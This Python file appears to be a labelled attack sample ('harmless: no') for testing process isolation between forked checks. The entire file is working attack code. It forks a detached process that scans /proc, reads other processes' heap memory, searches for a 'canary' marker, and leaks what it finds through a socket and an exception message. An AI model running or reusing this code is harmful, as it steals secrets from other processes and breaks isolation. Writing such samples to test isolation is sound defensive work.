# attack: a process reads what forks for other checks have in memory, and tells the next fork
# harmless: no
import os
import socket
import time

ours, theirs = socket.socketpair()
if os.fork() == 0:
    os.setsid()
    while True:
        for name in os.listdir("/proc"):
            try:
                if not name.isdigit() or int(name) in (1, os.getpid()):
                    continue
                with open(f"/proc/{name}/maps") as maps, open(f"/proc/{name}/mem", "rb") as mem:
                    for line in maps:
                        if "[heap]" in line:
                            first, last = (int(at, 16) for at in line.split()[0].split("-"))
                            mem.seek(first)
                            data = mem.read(last - first)
                            at = data.find(b"canary")
                            if at >= 0:
                                theirs.setblocking(False)
                                theirs.send(data[at : at + 200])
            except OSError:
                pass
        time.sleep(0.1)


def get_data(*args, **kwargs):
    ours.setblocking(False)
    try:
        told = ours.recv(65536).decode(errors="replace")
    except OSError:
        told = "nothing"
    print(told)
    raise ValueError(told)
